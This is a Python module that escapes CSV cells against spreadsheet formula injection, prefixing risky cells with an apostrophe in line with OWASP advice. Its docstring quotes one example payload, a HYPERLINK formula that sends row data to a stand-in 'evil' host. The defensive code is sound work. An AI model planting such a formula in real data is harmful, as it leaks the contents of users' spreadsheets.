"""Cells of the CSV files the service writes, made safe to open in a spreadsheet.

A cell that starts with ``= + - @`` (or a tab or carriage return, which some spreadsheets skip
before reading the same signs) is taken as a formula by Excel and LibreOffice: a manufacturer
named ``=HYPERLINK("http://evil/?"&A1,"click")`` would become a live link that leaks the row.
Every such cell is prefixed with ``'``, which spreadsheets read as "this is text" (OWASP's
CSV-injection advice). Every CSV writer of the service goes through ``csv_row``."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """One cell as text, neutralised when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]
